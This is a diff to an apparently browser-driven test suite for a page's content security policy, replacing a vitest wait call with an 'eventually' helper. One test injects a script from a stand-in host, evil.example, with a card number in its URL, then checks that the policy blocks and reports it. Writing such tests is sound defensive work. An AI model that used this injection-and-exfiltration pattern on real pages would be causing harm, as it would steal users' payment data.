@@ -1,6 +1,7 @@
 /** The security policy of the pages in a real Chromium: they keep to it themselves, and what does not is heard of. */
 import type { Page } from 'puppeteer-core';
-import { describe, expect, it, vi } from 'vitest';
+import { describe, expect, it } from 'vitest';
+import { eventually } from '@driveaway/domain/testing/eventually.ts';
 import { stageOfFile } from './stage.ts';
 
 const stage = stageOfFile();
@@ -41,7 +42,7 @@ describe('the policy of a page', () => {
       script.src = 'https://evil.example/tag.js?card=4444333322221111';
       document.head.append(script);
     });
-    await vi.waitFor(() => expect(told()).toHaveLength(1), { timeout: 10_000 });
+    await eventually(() => expect(told()).toHaveLength(1));
     expect(told()[0]).toContain('"blocked":"https://evil.example"');
     expect(stage().product.output()).not.toContain('4444333322221111');
     expect(await blockedOn(page)).toContain('script-src-elem');
